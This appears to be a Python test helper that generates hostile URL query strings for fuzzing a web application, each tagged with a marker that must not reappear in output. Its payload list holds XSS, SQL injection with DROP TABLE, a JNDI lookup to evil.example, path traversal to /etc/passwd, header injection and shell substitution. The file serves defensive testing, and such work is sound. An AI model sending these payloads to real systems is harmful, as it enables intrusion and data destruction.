"""Query strings that somebody might send to do harm. Each holds MARK, which must be seen nowhere afterwards."""

import random
from collections.abc import Iterator
from urllib.parse import quote_from_bytes

MARK = "zq7xmark"
FRAGMENTS = [
    b"<script>alert(1)</script>",
    b'"><img src=x onerror=alert(1)>',
    b"'-alert(1)-'",
    b"javascript:alert(1)",
    b"</title></noscript><svg/onload=alert(1)>",
    b"{{7*7}}${7*7}<%=7*7%>#{7*7}",
    b"${jndi:ldap://evil.example/a}",
    b"../../../../etc/passwd",
    b"\r\nSet-Cookie: evil=1\r\n\r\n<html>",
    b"' OR 1=1; DROP TABLE submissions; --",
    b"\x00\x01\x1b[31m",
    b"\xff\xfe\xc0\xaf\xed\xa0\x80",
    b"\xe2\x80\xae\xe2\x81\xa6\xd8\xb9",
    b"%s%n%x%(name)s{0.__class__}",
    b"__proto__[x]",
    b"$(id)`id`|id",
    b"a" * 700,
    "\U0001f4a9ß漢字".encode(),
    b"=&;?#",
]
KEYS = [b"lang", b"status", b"remedy", b"change", b"resume-link", b"q", b"utm_source", b"", b"__class__"]
VALUES = [b"fr", b"en", b"cancellation-requested", b"yes", b"status", b"", b"0"]


def queries(number: int, seed: int = 5) -> Iterator[bytes]:
    """Made from fragments, known words and noise; some escaped, some raw as no browser would send them."""
    chance = random.Random(seed)
    for _ in range(number):
        pairs = [_pair(chance) for _ in range(chance.choice([1, 1, 2, 3, 8, 60]))]
        yield chance.choice([b"&", b"&", b"&", b";", b"&&"]).join(pairs)[:15_000]


def _pair(chance: random.Random) -> bytes:
    key = chance.choice([chance.choice(KEYS), _word(chance)])
    return key + chance.choice([b"=", b"=", b"=", b"", b"=="]) + chance.choice([chance.choice(VALUES), _word(chance)])


def _word(chance: random.Random) -> bytes:
    noise = chance.randbytes(chance.randrange(6))
    word = chance.choice(FRAGMENTS) + MARK.encode() + noise
    how = chance.random()
    if how < 0.6:
        return quote_from_bytes(word).encode()
    if how < 0.7:
        return quote_from_bytes(quote_from_bytes(word).encode()).encode()
    # A server's parser refuses these outright; an app must not rely on it.
    return word.translate(None, b"\r\n\x00 &=;")
